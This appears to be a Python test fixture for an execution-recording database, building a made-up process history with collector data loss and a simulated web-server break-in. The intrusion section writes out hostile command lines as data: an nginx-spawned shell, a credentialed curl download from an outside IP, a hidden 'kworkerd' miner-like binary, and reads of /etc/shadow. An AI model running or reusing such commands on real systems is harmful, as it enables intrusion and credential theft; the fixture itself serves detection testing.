"""A made-up history with an incident in it: someone gets in through a web server."""

from pathlib import Path

from execdb.store.account import Account, Cause, Loss
from execdb.store.event import End, Exec, Place
from execdb.store.file.create import prepare
from execdb.store.file.database import open_database
from execdb.store.writing.recording import Recording
from tests.conftest import MACHINE, START_NS, an_exec, counts, some_creds

SECOND_NS = 10**9
MINUTE_NS = 60 * SECOND_NS
INCIDENT_NS = START_NS + 97 * MINUTE_NS
SECRET = "hunter2hunter2"
_ORDINARY = ("gcc", "sed", "grep", "git", "cat", "python3", "rm")


class _Story:
    """Collects execs and ends in order of time."""

    def __init__(self) -> None:
        self.execs: list[Exec] = []
        self.ends: list[End] = []
        self._pid = 2_000

    def run(
        self, at_ns: int, argv: str, uid: int, lasts_ns: int, status: int, parent: Exec | None
    ) -> Exec:
        self._pid += 1
        words = tuple(argv.split(" "))
        name = words[0].rpartition("/")[2]
        event = an_exec(
            time_ns=at_ns,
            boot_ns=at_ns - START_NS + 5 * SECOND_NS,
            pid=self._pid,
            ppid=1 if parent is None else parent.pid,
            parent=None if parent is None else (parent.boot_ns, parent.pid),
            argv=words,
            filename=words[0] if words[0].startswith("/") else f"/usr/bin/{name}",
            comm=name[:15],
            creds=some_creds(uid, "Hello World"),
            place=Place("/srv", f"/system.slice/of-{uid}.service"),
        )
        self.execs.append(event)
        self.ends.append(End(event.boot_ns + lasts_ns, (event.boot_ns, event.pid), status))
        return event


def write_incident(path: Path) -> None:
    """Two runs of a collector with a crash between them; the second loses some execs."""
    prepare(path, create=True)
    first, second = _Story(), _Story()
    _work(first, START_NS, 60)
    _work(second, START_NS + 71 * MINUTE_NS, 49)
    _intrusion(second)
    second.execs.sort(key=lambda event: event.boot_ns)
    with open_database(path) as database:
        recording = Recording(database, MACHINE, "0", START_NS)
        alive = Account(alive_ns=START_NS + 61 * MINUTE_NS)
        recording.write(first.execs, first.ends, counts(len(first.execs)), alive)
        began_ns = START_NS + 70 * MINUTE_NS
        recording = Recording(database, MACHINE, "0", began_ns)
        lost_ns = INCIDENT_NS + 5 * MINUTE_NS
        loss = Loss(1, Cause.RING_FULL, lost_ns, lost_ns + MINUTE_NS, 23)
        ended_ns = START_NS + 121 * MINUTE_NS
        account = Account(began_ns, ended_ns, [loss])
        total = counts(len(second.execs), 23)
        recording.write(second.execs, second.ends, total, account)
        recording.finish(ended_ns, total)


def _work(story: _Story, from_ns: int, minutes: int) -> None:
    shell = story.run(from_ns, "bash -l", 1000, minutes * MINUTE_NS, 0, None)
    for number in range(minutes * 7):
        name = _ORDINARY[number * 5 % 7]
        status = 0x100 if number % 31 == 0 else 0
        at_ns = from_ns + SECOND_NS + number * MINUTE_NS // 7
        lasts_ns = number * 37 % 5_000 * 1_000_000
        story.run(at_ns, f"{name} --file src/part-{number}.c", 1000, lasts_ns, status, shell)


def _intrusion(story: _Story) -> None:
    server = story.run(START_NS + 72 * MINUTE_NS, "/usr/sbin/nginx", 33, 48 * MINUTE_NS, 0, None)
    worker = story.run(INCIDENT_NS, "sh -c id;curl", 33, 12 * MINUTE_NS, 0, server)
    fetch = f"curl -u admin:{SECRET} http://203.0.113.7/k"
    for place, (argv, lasts_s, status) in enumerate(
        (("id", 0.01, 0), (fetch, 2, 0), ("chmod +x /tmp/.x/kworkerd", 0.01, 0),
         ("/tmp/.x/kworkerd -o pool", 600, 9))
    ):  # fmt: skip
        at_ns = INCIDENT_NS + (place + 1) * SECOND_NS
        found = story.run(at_ns, argv, 33, int(lasts_s * SECOND_NS), status, worker)
    for number in range(211):
        at_ns = INCIDENT_NS + 10 * SECOND_NS + number * 200_000_000
        story.run(at_ns, f"cat /etc/shadow-{number}", 33, 1_000_000, 0x100, found)
